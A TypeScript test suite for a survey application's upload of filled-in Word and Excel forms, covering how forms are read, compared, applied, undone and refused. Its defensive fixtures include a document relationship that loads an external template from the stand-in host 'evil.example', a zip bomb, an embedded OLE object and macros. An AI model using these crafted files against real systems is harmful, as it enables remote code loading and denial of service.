// Filled-in forms over HTTP: what is read, compared three ways, chosen, applied as one act with the source "paper" and
// undone; and what every form gets that is not as it was sent out.

import { sql } from "kysely";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { FoundCell, PaperPreview, PreviewCell } from "#contract/paper/paper-uploads.ts";
import { warningKey } from "#questionnaire/engine/confirmations.ts";
import type { Finding } from "#questionnaire/engine/define.ts";
import type { FormProperties } from "#server/paper/paper-format.ts";
import { deleteAnswers } from "#server/testing/delete-answers.ts";
import {
  control,
  filledForm,
  filledSheet,
  formProperties,
  multipart,
  run,
  wordForm,
} from "#server/testing/paper/paper-file.ts";
import { readZip } from "#server/testing/read-zip.ts";
import { type StartedApp, startApp } from "#server/testing/start-app.ts";

let app: StartedApp;
let version = "";
beforeAll(async () => {
  app = await startApp();
  version = String((await app.definitions.forYear(2025))?.id);
});
afterAll(() => app.stop());
beforeEach(async () => {
  await sql`delete from paper_upload`.execute(app.db);
  await deleteAnswers(app.db);
});

const place = "countryId=1&surveyKey=2";
const htc = "a:Care/centres.htc";
const hccc = "a:Care/centres.hccc";
const total = "a:FactorUse/fviii.total";
const token = () => app.callers.nmo.token;

const properties = (more: Partial<FormProperties> = {}): FormProperties => ({
  ...formProperties,
  definition: version,
  ...more,
});

async function upload(bytes: Buffer, { name = "form.docx", query = place, culture = "en" } = {}) {
  const { type, payload } = multipart(name, bytes);
  const { statusCode, body } = await app.fastify.inject({
    method: "POST",
    url: `/api/Survey/UploadDocument?${query}&culture=${culture}`,
    headers: { authorization: `Bearer ${token()}`, "content-type": type },
    payload,
  });
  return { status: statusCode, body: JSON.parse(body) };
}

const fill = (texts: Record<string, string>, more: Partial<FormProperties> = {}) =>
  filledForm(texts, { properties: properties(more) });

const get = (path: string) => app.send("GET", `/Survey/${path}?${place}`, { token: token() });
const post = (path: string, body?: unknown) =>
  app.send("POST", `/Survey/Document/${path}?${place}`, {
    token: token(),
    ...(body === undefined ? {} : { body }),
  });

async function preview(id: number): Promise<PaperPreview> {
  const { status, body } = await get(`Document/${id}`);
  expect(status).toBe(200);
  return body;
}

/** Uploads a form and returns what is shown of it. */
async function previewOf(bytes: Buffer, more = {}): Promise<PaperPreview> {
  const { status, body } = await upload(bytes, more);
  expect([status, body.imported]).toEqual([200, 0]);
  return preview(body.documentId);
}

const changesOf = ({ cells }: Pick<PaperPreview, "cells">) =>
  Object.fromEntries(cells.map(({ id, change, take }) => [id, [change, take]]));
const proposals = ({ cells }: PaperPreview) =>
  cells.filter(({ take }) => take === "paper").map(({ id }) => id);
const cellOf = ({ cells }: PaperPreview, id: string) =>
  cells.find((cell) => cell.id === id) as PreviewCell;

const apply = (one: PaperPreview, typed: Record<string, string> = {}, take = proposals(one)) =>
  post(`${one.id}/Apply`, { seen: one.seen, take, typed });

/** What the checks would find with the proposed cells: where, what, and whether it stops the import. */
async function foundWith(one: PaperPreview, take = proposals(one)): Promise<unknown[]> {
  const { status, body } = await post(`${one.id}/Check`, { seen: one.seen, take });
  expect(status).toBe(200);
  return body.findings.map(({ cell, severity, message, name, stops }: FoundCell) => [
    cell ?? `elsewhere: ${name}`,
    severity,
    message,
    stops,
  ]);
}

const section = async (code: string) => (await get(code)).body;
async function save(code: string, answers: object) {
  const { version: from } = await section(code);
  const path = `/Survey/${code}?${place}`;
  const body = { version: from, answers };
  expect((await app.send("PUT", path, { token: token(), body })).status).toBe(200);
}

const newProductType = () =>
  sql`insert into product_type (id, code, name_en, name_fr, name_es)
    values (900, 'T', 'Kind', 'Genre', 'Clase') on conflict do nothing`.execute(app.db);

async function sources(): Promise<string[]> {
  const { rows } = await sql<{ source: string }>`
    select source from section_revision order by at`.execute(app.db);
  return rows.map(({ source }) => source);
}

describe("a form that was sent out empty", () => {
  test("is read, shown and applied as one act; the file and the log stay", async () => {
    const bytes = fill({
      [htc]: "1,234",
      [hccc]: "n",
      [total]: " ",
      "p:FactorUse/fviii": "estimate",
    });
    const one = await previewOf(bytes);
    expect(changesOf(one)).toEqual({
      [htc]: ["new", "paper"],
      [hccc]: ["new", "paper"],
      "p:FactorUse/fviii": ["new", "paper"],
    });
    expect(await sources()).toEqual([]);
    const applied = await apply(one);
    expect([applied.status, applied.body.imported]).toEqual([200, 3]);
    expect(await section("Care")).toMatchObject({
      answers: { "centres.htc": 1234 },
      states: { "centres.hccc": "notAvailable" },
      version: 1,
    });
    expect((await section("FactorUse")).precision).toEqual({ fviii: "estimate" });
    expect(await sources()).toEqual(["paper", "paper"]);
    const [entry] = (await get("ImportLog")).body;
    expect(entry).toMatchObject({ outcome: "applied", imported: 3, fileName: "form.docx" });
    expect(entry.uploadedBy).not.toBe("");
    expect(entry.decidedBy).toBe(entry.uploadedBy);
    const file = await app.fastify.inject({
      url: `/api/Survey/Document/${one.id}/File?${place}`,
      headers: { authorization: `Bearer ${token()}` },
    });
    expect(file.rawPayload.equals(bytes)).toBe(true);
    expect((await apply(one)).status).toBe(409);
  });

  test("has comments, which become comments once, and go when the import is undone", async () => {
    const comments = async () =>
      (await get("CommentSection")).body.map(({ field, text }: { field: string; text: string }) => [
        field,
        text,
      ]);
    const onCentres = "c:Care/centres";
    const bytes = fill({ [onCentres]: "Two centres\nclosed in 2025.", "c:Nowhere/x": "lost" });
    const one = await previewOf(bytes);
    expect(changesOf(one)).toEqual({ [onCentres]: ["new", "paper"] });
    expect(one.messages.map(({ code }) => code)).toContain("unknown-marks");
    expect(await foundWith(one)).toEqual([]);
    expect((await apply(one, {}, [])).body.imported).toBe(0);
    expect(await comments()).toEqual([]);
    const again = await previewOf(bytes);
    expect((await apply(again)).body.imported).toBe(1);
    expect(await comments()).toEqual([["Care.centres", "Two centres\nclosed in 2025."]]);
    expect(await sources()).toEqual([]);
    const third = await previewOf(bytes);
    expect(changesOf(third)).toEqual({ [onCentres]: ["same", "present"] });
    expect((await post(`${again.id}/Undo`, { reason: "wrong form" })).status).toBe(204);
    expect(await comments()).toEqual([]);
    const both = [await previewOf(bytes), await previewOf(bytes)];
    const replies = await Promise.all(both.map((each) => apply(each)));
    expect(replies.map(({ body }) => body.imported).sort()).toEqual([0, 1]);
    expect(await comments()).toHaveLength(1);
    for (const each of both) await post(`${each.id}/Undo`, { reason: "wrong form" });
    expect(await comments()).toEqual([]);
  });

  test("comes back as a workbook or in French all the same", async () => {
    const sheet = await filledSheet({ [htc]: 12, [hccc]: "c", [total]: null }, properties());
    const one = await previewOf(sheet, { name: "form.xlsx" });
    expect(changesOf(one)).toEqual({ [htc]: ["new", "paper"], [hccc]: ["new", "paper"] });
    const french = await previewOf(fill({ [htc]: "1\u202f234" }, { language: "fr" }));
    expect(cellOf(french, htc).paper).toEqual({ value: 1234, state: null });
  });

  test("a text with two meanings, or with none, waits for a person", async () => {
    const reach = "a:DataSource/coveragePercent";
    const { body } = await upload(fill({ [htc]: "38 or 39?", [hccc]: "12.5", [reach]: "1.5" }));
    expect(
      body.errors.map(({ code, field }: { code: string; field: string }) => [code, field]),
    ).toEqual([
      ["unreadable", "centres.htc"],
      ["unreadable", "centres.hccc"],
    ]);
    expect(body.errors[0].message).toMatch(/^\d+, .+: “38 or 39\?” cannot be read: ./);
    const one = await preview(body.documentId);
    expect(cellOf(one, hccc)).toMatchObject({
      change: "unreadable",
      message: "wholeNumber",
      take: null,
    });
    expect((await apply(one, { [htc]: "many" })).status).toBe(400);
    expect((await apply(one, {}, [hccc])).status).toBe(400);
    expect((await apply(one, { [htc]: "38" })).body.imported).toBe(2);
    expect((await section("Care")).answers).toMatchObject({ "centres.htc": 38 });
  });
});

describe("before anything is imported, the checks say", () => {
  test("what they would find at the chosen cells, and nothing of those that are not chosen", async () => {
    const one = await previewOf(fill({ [htc]: "3", [hccc]: "9" }));
    const found = [htc, "warning", "centresAtMost", false];
    expect(await foundWith(one)).toEqual([[hccc, ...found.slice(1)]]);
    expect(await foundWith(one, [htc])).toEqual([]);
    expect(await sources()).toEqual([]);
    const { body } = await apply(one);
    expect(body.findings).toMatchObject([{ message: "centresAtMost" }]);
    const late = await post(`${one.id}/Check`, { seen: one.seen, take: [htc] });
    expect([late.status, late.body.code]).toEqual([409, "already-decided"]);
  });

  test("what they would find elsewhere because of it, but not what they find already", async () => {
    const one = await previewOf(fill({ "a:DataSource/coveragePercent": "60" }));
    expect(await foundWith(one)).toEqual([
      ["elsewhere: Patient registry", "error", "atLeastOneBox", false],
    ]);
    await save("DataSource", { coveragePercent: 50 });
    const again = await preview(one.id);
    expect(await foundWith(again, ["a:DataSource/coveragePercent"])).toEqual([]);
  });

  test("what a text that is typed instead would raise, and what is read of it is read alike", async () => {
    const one = await previewOf(fill({ [htc]: "3", [hccc]: "9 or 8" }));
    const check = (typed: Record<string, string>) =>
      post(`${one.id}/Check`, { seen: one.seen, take: [htc], typed });
    expect((await check({ [hccc]: "9" })).body.findings).toMatchObject([
      { cell: hccc, message: "centresAtMost", numbers: { value: 9, limit: 3 } },
    ]);
    expect((await check({ [hccc]: "2" })).body).toEqual({ findings: [] });
    expect((await check({ [hccc]: "many" })).body.code).toBe("malformed-request");
    expect((await check({ "a:Care/nothing": "2" })).body.code).toBe("malformed-request");
  });

  test("nothing of an answer that no data empties, and nothing to another country", async () => {
    await save("Care", { "centres.htc": 3, "centres.hccc": 9 });
    const one = await previewOf(fill({ "p:Care/centres": "noData" }));
    expect(await foundWith(one, ["p:Care/centres"])).toEqual([]);
    const path = `/Survey/Document/${one.id}/Check?countryId=2&surveyKey=2`;
    const token = app.callers.otherNmo.token;
    const body = { seen: one.seen, take: [] };
    expect((await app.send("POST", path, { token, body })).status).toBe(404);
  });

  test("nothing of answers that were saved since they were shown", async () => {
    const one = await previewOf(fill({ [htc]: "3", [hccc]: "9" }));
    await save("Care", { "centres.htc": 20 });
    const { status, body } = await post(`${one.id}/Check`, { seen: one.seen, take: [hccc] });
    expect([status, body.code]).toEqual([409, "version-conflict"]);
    // With what is there now it raises nothing.
    expect(await foundWith(await preview(one.id), [hccc])).toEqual([]);
  });

  test("a warning once more when its answered figures change", async () => {
    await save("Care", { "centres.htc": 3, "centres.hccc": 9 });
    const { version: from, findings } = await section("Care");
    const [warning] = findings as Finding[];
    if (!warning) throw new Error("the figures raise no warning");
    const confirmations = {
      [warningKey(warning)]: {
        figures: { "centres.hccc": 9, "centres.htc": 3 },
        numbers: warning.numbers,
        reason: "New centres",
      },
    };
    const answers = { "centres.htc": 3, "centres.hccc": 9 };
    const sent = { token: token(), body: { version: from, answers, confirmations } };
    expect((await app.send("PUT", `/Survey/Care?${place}`, sent)).status).toBe(200);
    const one = await previewOf(fill({ [htc]: "3", [hccc]: "10" }));
    expect(await foundWith(one, [htc])).toEqual([]);
    expect(await foundWith(one, [hccc])).toEqual([[hccc, "warning", "centresAtMost", false]]);
  });

  test("the row of a list that it is about, and what the import refuses", async () => {
    await newProductType();
    const other = { productTypeId: 900, brandName: "Zero", pricePerIu: 1 };
    await save("Product", { used: [other], other: [] });
    const row = "a:Product/used#3";
    const same = "a:Product/other#1";
    const form = fill({
      [`${row}.brandName`]: "One",
      [`${row}.productTypeId`]: "Clase",
      [`${row}.vialSize`]: "500",
      [`${row}.vialSizeTo`]: "250",
      [`${same}.brandName`]: "zero",
      [`${same}.productTypeId`]: "Clase",
    });
    // On a form rows are counted from 1.
    expect(await foundWith(await previewOf(form))).toEqual([
      ["a:Product/used#2.vialSize", "error", "vialRange", false],
      ["a:Product/other#0.brandName", "error", "sameRow", true],
    ]);
  });
});

/** When the newest save was stored, to the microsecond: a form made then has it. */
async function lastSave(): Promise<string> {
  const { rows } = await sql<{ at: string }>`
    select to_char(max(at) at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') as at
    from section_revision`.execute(app.db);
  return String(rows[0]?.at);
}

describe("a form that was sent out with answers", () => {
  const sentOut = async () => {
    await save("Care", { "centres.htc": 10, "centres.hccc": 4 });
    return lastSave();
  };

  test("is compared three ways, and a choice is left where both sides changed", async () => {
    const issued = await sentOut();
    await save("Care", { "centres.htc": 11, "centres.hccc": 5 });
    const filled = { issued, filled: "true" };
    const one = await previewOf(fill({ [htc]: "12", [hccc]: "4" }, filled));
    expect(cellOf(one, htc)).toMatchObject({
      change: "conflict",
      printed: { value: 10 },
      present: { value: 11 },
      paper: { value: 12 },
      take: null,
    });
    expect(changesOf(one)[hccc]).toEqual(["kept", "present"]);
    expect((await apply(one, {}, [htc])).body.imported).toBe(1);
    expect((await section("Care")).answers).toEqual({ "centres.htc": 12, "centres.hccc": 5 });
  });

  test("an answer that was taken out on paper is taken out", async () => {
    const filled = { issued: await sentOut(), filled: "true" };
    const one = await previewOf(fill({ [htc]: "\u2003\u2003\u2003", [hccc]: "4" }, filled));
    expect(changesOf(one)).toEqual({ [htc]: ["emptied", "paper"], [hccc]: ["same", "present"] });
    await apply(one);
    expect((await section("Care")).answers).toEqual({ "centres.hccc": 4 });
  });

  test("what was saved meanwhile is not written over unseen, and an import is undone as one act", async () => {
    const filled = { issued: await sentOut(), filled: "true" };
    const one = await previewOf(fill({ [htc]: "12" }, filled));
    await save("Care", { "centres.htc": 10, "centres.hccc": 6 });
    expect((await apply(one)).body.code).toBe("version-conflict");
    expect((await apply(await preview(one.id))).status).toBe(200);
    expect((await post(`${one.id}/Undo`, { reason: "Wrong file" })).status).toBe(204);
    expect((await section("Care")).answers).toEqual({ "centres.htc": 10, "centres.hccc": 6 });
    const [entry] = (await get("ImportLog")).body;
    expect(entry).toMatchObject({ outcome: "undone", reason: "Wrong file" });
    const again = await post(`${one.id}/Undo`, { reason: "Again" });
    expect(again.body.code).toBe("already-decided");
  });

  test("an import is undone once a later one was undone, which changed the same section", async () => {
    await sentOut();
    const applied = async (value: string) => {
      const filled = { issued: await lastSave(), filled: "true" };
      const one = await previewOf(fill({ [htc]: value }, filled));
      expect((await apply(one, {}, [htc])).status).toBe(200);
      return (reason: string) => post(`${one.id}/Undo`, { reason });
    };
    const undoFirst = await applied("12");
    const undoSecond = await applied("13");
    expect((await undoFirst("Too early")).body.code).toBe("version-conflict");
    expect((await undoSecond("Wrong file")).status).toBe(204);
    expect((await section("Care")).answers).toMatchObject({ "centres.htc": 12 });
    expect((await undoFirst("Wrong file")).status).toBe(204);
    expect((await section("Care")).answers).toMatchObject({ "centres.htc": 10 });
  });

  test("an import whose sections were saved since is not undone", async () => {
    const one = await previewOf(fill({ [htc]: "12" }));
    expect((await apply(one)).status).toBe(200);
    await save("Care", { "centres.htc": 12, "centres.hccc": 7 });
    const { body } = await post(`${one.id}/Undo`, { reason: "Wrong file" });
    expect(body.code).toBe("version-conflict");
    expect((await section("Care")).answers).toEqual({ "centres.htc": 12, "centres.hccc": 7 });
  });
});

test("rows of a list are found by what names them, and new ones are added", async () => {
  const row = (at: number, name: string, price: string) => ({
    [`a:Product/used#${at}.brandName`]: name,
    [`a:Product/used#${at}.pricePerIu`]: price,
  });
  await newProductType();
  const used = [{ productTypeId: 900, brandName: "One", pricePerIu: 1.5 }];
  await save("Product", { used, other: [] });
  const filled = { issued: await lastSave(), filled: "true" };
  const type = (at: number) => ({ [`a:Product/used#${at}.productTypeId`]: "Clase" });
  const one = await previewOf(
    fill({ ...row(1, "One", "1.75"), ...type(1), ...row(2, "Two", "2.5"), ...type(2) }, filled),
  );
  expect((await apply(one)).status).toBe(200);
  expect((await section("Product")).answers.used).toMatchObject([
    { productTypeId: 900, brandName: "One", pricePerIu: 1.75 },
    { productTypeId: 900, brandName: "Two", pricePerIu: 2.5 },
  ]);
});

/** How a file before Office 2007 begins, and one with a password. */
const oleHeader = Buffer.from("d0cf11e0a1b11ae1", "hex");
const externalRelation = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;

const withPart = (name: string, content: Buffer): Buffer =>
  wordForm(control(htc, run("5")), { properties: properties(), more: [{ name, content }] });

describe("what is not as it was sent out", () => {
  const refusals: [string, () => Buffer | Promise<Buffer>, string, string?][] = [
    ["another country's form", () => fill({ [htc]: "1" }, { country: "FRA" }), "other-country"],
    ["a later year's form", () => fill({ [htc]: "1" }, { surveyYear: "2026" }), "other-year"],
    ["a document without cells", () => fill({}), "no-form"],
    ["a damaged file", () => fill({ [htc]: "1" }).subarray(0, 300), "zip-broken"],
    ["a text with another name", () => Buffer.from("hello"), "not-office"],
    [
      "a zip bomb",
      () => withPart("word/media/a.bin", Buffer.alloc(31 * 2 ** 20, 0x20)),
      "zip-ratio",
    ],
    ["a file of an old program", () => Buffer.concat([oleHeader, Buffer.alloc(600)]), "old-format"],
    ["a workbook with a document's name", () => filledSheet({ [htc]: 1 }), "wrong-office-type"],
  ];
  test.each(refusals)("%s is refused, and the log says why", async (_, make, code) => {
    const { status, body } = await upload(await make());
    expect([status, body.code, body.errors[0].code]).toEqual([422, "unreadable-file", code]);
    expect(body.errors[0].message).not.toMatch(/remark|\{/);
    const [entry] = (await get("ImportLog")).body;
    expect(entry).toMatchObject({ outcome: "refused", hasFile: false });
    expect((await get(`Document/${entry.id}/File`)).body.code).toBe("file-gone");
  });

  const harmful: [string, () => Buffer, string, string][] = [
    [
      "an embedded object",
      () => withPart("word/embeddings/oleObject1.bin", oleHeader),
      "embedded",
      "embeddings",
    ],
    [
      "a link to another place",
      () => withPart("word/_rels/document.xml.rels", Buffer.from(externalRelation)),
      "external",
      "evil.example",
    ],
  ];
  test.each(harmful)(
    "%s is named and not handed back, and the answers are read",
    async (...given) => {
      const [, make, code, trace] = given;
      const one = await previewOf(make());
      expect(one.messages.map((message) => message.code)).toContain(code);
      expect(changesOf(one)[htc]).toEqual(["new", "paper"]);
      const { rawPayload } = await app.fastify.inject({
        url: `/api/Survey/Document/${one.id}/File?${place}`,
        headers: { authorization: `Bearer ${token()}` },
      });
      const parts = await readZip(rawPayload);
      expect(JSON.stringify(parts)).not.toContain(trace);
      expect(await sources()).toEqual([]);
    },
  );

  test("a refusal is said in the reader's language, each in other words", async () => {
    const make = () => fill({ [htc]: "1" }, { country: "FRA" });
    const said = new Set<string>();
    for (const culture of ["en", "fr", "es"]) {
      const { body } = await upload(await make(), { culture });
      said.add(body.errors[0].message);
    }
    expect(said.size).toBe(3);
    expect(await sources()).toEqual([]);
  });

  const outcomes: [string, Record<string, string>, Partial<FormProperties>, string][] = [
    ["an older year's form", { [htc]: "1" }, { surveyYear: "2024", definition: "" }, "older-year"],
    ["a form without origin", { [htc]: "1" }, { surveyYear: "", country: "" }, "unknown-origin"],
    ["a form of an unknown version", { [htc]: "1" }, { definition: "999999" }, "unknown-version"],
    ["a mark that means nothing", { [htc]: "1", "a:Care/nothing": "2" }, {}, "unknown-marks"],
    ["missing cells", { [htc]: "1" }, {}, "missing-cell"],
    [
      "figures beside no data",
      { [total]: "5", "p:FactorUse/fviii": "noData" },
      {},
      "no-data-with-figures",
    ],
  ];
  test.each(outcomes)("%s is a warning", async (_, texts, more, code) => {
    const { body } = await upload(fill(texts, more));
    const codes = body.warnings.map((warning: { code: string }) => warning.code);
    expect(codes).toContain(code);
    const one = await preview(body.documentId);
    const isOpen = ["older-year", "unknown-origin"].includes(code);
    expect(proposals(one).length > 0).toBe(!isOpen);
  });

  test("the same file twice, and the same cell twice, are said", async () => {
    const body = control(htc, run("1")) + control(htc, run("2")) + control(hccc, run("3"));
    const bytes = wordForm(body, { properties: properties() });
    expect(changesOf(await previewOf(bytes))[htc]).toEqual(["unreadable", null]);
    const again = await upload(bytes);
    expect(again.body.warnings[0].code).toBe("same-file");
  });

  test("tracked changes wait for a person", async () => {
    const changed = `<w:ins w:id="2">${run("12")}</w:ins>`;
    const bytes = wordForm(control(htc, changed), { properties: properties() });
    expect(changesOf(await previewOf(bytes))[htc]).toEqual(["new", null]);
  });

  test("macros are handed back without them", async () => {
    const bytes = wordForm(
      control(htc, run("5")),
      { properties: properties(), more: [{ name: "word/vbaProject.bin", content: "x" }] },
      "docm",
    );
    const one = await previewOf(bytes, { name: "form.docm" });
    expect(one.messages.map(({ code }) => code)).toContain("macros");
    const { rawPayload, headers } = await app.fastify.inject({
      url: `/api/Survey/Document/${one.id}/File?${place}`,
      headers: { authorization: `Bearer ${token()}` },
    });
    expect(rawPayload.includes("vbaProject")).toBe(false);
    expect(headers["content-disposition"]).toContain('"form.docx"');
  });

  test("an approved survey, another type of file, more than 10 MB and no file are refused", async () => {
    expect((await upload(fill({ [htc]: "1" }), { name: "form.pdf" })).status).toBe(415);
    expect((await upload(Buffer.alloc(10 * 1024 * 1024 + 1))).status).toBe(413);
    const { type } = multipart("a.docx", Buffer.from("x"));
    const empty = await app.fastify.inject({
      method: "POST",
      url: `/api/Survey/UploadDocument?${place}`,
      headers: { authorization: `Bearer ${token()}`, "content-type": type },
      payload: "nothing",
    });
    expect(empty.statusCode).toBe(400);
    const closed = await upload(fill({ [htc]: "1" }), { query: "countryId=1&surveyKey=1" });
    expect([closed.status, closed.body.code]).toEqual([409, "survey-closed"]);
  });

  test("another country's upload is not found", async () => {
    const one = await previewOf(fill({ [htc]: "1" }));
    const { otherNmo } = app.callers;
    const path = `/Survey/Document/${one.id}?countryId=2&surveyKey=2`;
    expect((await app.send("GET", path, { token: otherNmo.token })).status).toBe(404);
    const file = path.replace("?", "/File?");
    expect((await app.send("GET", file, { token: otherNmo.token })).status).toBe(404);
  });

  test("a given up form stays in the log and writes nothing", async () => {
    const one = await previewOf(fill({ [htc]: "1" }));
    expect((await post(`${one.id}/Discard`)).status).toBe(204);
    expect((await apply(one)).status).toBe(409);
    expect(await sources()).toEqual([]);
  });
});
